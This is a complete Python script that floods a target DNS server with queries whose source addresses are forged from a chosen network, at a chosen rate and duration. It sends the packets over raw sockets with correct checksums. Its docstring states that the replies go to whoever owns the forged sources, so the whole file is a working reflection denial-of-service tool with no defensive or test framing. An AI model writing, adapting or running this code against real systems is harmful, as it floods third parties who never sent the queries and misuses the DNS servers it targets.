#!/usr/bin/python3
"""A flood of DNS questions with forged sources, at a bounded rate for a bounded time.

    flood.py --target IP --sources NET --rate PER_SECOND --seconds S [NAME TYPE[/CLASS] ...]
Packets are made beforehand and sent raw; the answers go to whoever owns the sources.
One line on stdout at the end: how many were sent.
"""
import argparse
import ipaddress
import itertools
import random
import socket
import struct
import time

import dns.message
import dns.rdataclass
import dns.rdatatype

PACKETS = 512                           # different ones, sent round and round


def checksum(data):
    words = struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2))
    total = sum(words)
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff or 0xffff


def packet(source, target, question):
    """IP and UDP around a question; whoever checks them finds them right."""
    pseudo = source.packed + target.packed + struct.pack("!II", 8 + len(question), 17)
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), 53, 8 + len(question), 0) + question
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp)) + udp[8:]
    if target.version == 6:
        return struct.pack("!IHBB", 6 << 28, len(udp), 17, 64) + source.packed + target.packed + udp
    # the kernel fills in the header's length and checksum
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), random.randrange(65536), 0, 64, 17,
                       0) + source.packed + target.packed + udp


def questions(words):
    for name, kind in zip(words[::2], words[1::2]):
        rdtype, _, rdclass = kind.partition("/")
        yield dns.message.make_query(name, rdtype, rdclass or "IN", use_edns=0).to_wire()


def flood(raw, target, packets, rate, seconds):
    """Sends in steps of a millisecond; what a step could not send is not made up for."""
    sent, ring = 0, itertools.cycle(packets)
    begin = time.monotonic()
    while (now := time.monotonic() - begin) < seconds:
        for _ in range(min(int(now * rate) - sent, max(1, rate // 100))):
            try:
                raw.sendto(next(ring), (str(target), 0))
            except OSError:
                pass                    # a full queue is a lost packet
            sent += 1
        time.sleep(0.001)
    return sent


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--target", type=ipaddress.ip_address, required=True)
    parser.add_argument("--sources", type=ipaddress.ip_network, required=True)
    parser.add_argument("--rate", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("questions", nargs="+")
    args = parser.parse_args()
    wires = itertools.cycle(questions(args.questions))
    span = min(args.sources.num_addresses - 2, 1 << 16)
    others = (args.sources[random.randrange(1, span)] for _ in itertools.count())
    packets = [packet(source, args.target, next(wires)) for source, _ in
               zip((s for s in others if s != args.target), range(PACKETS))]
    family = socket.AF_INET6 if args.target.version == 6 else socket.AF_INET
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        print(flood(raw, args.target, packets, args.rate, args.seconds), flush=True)


main()
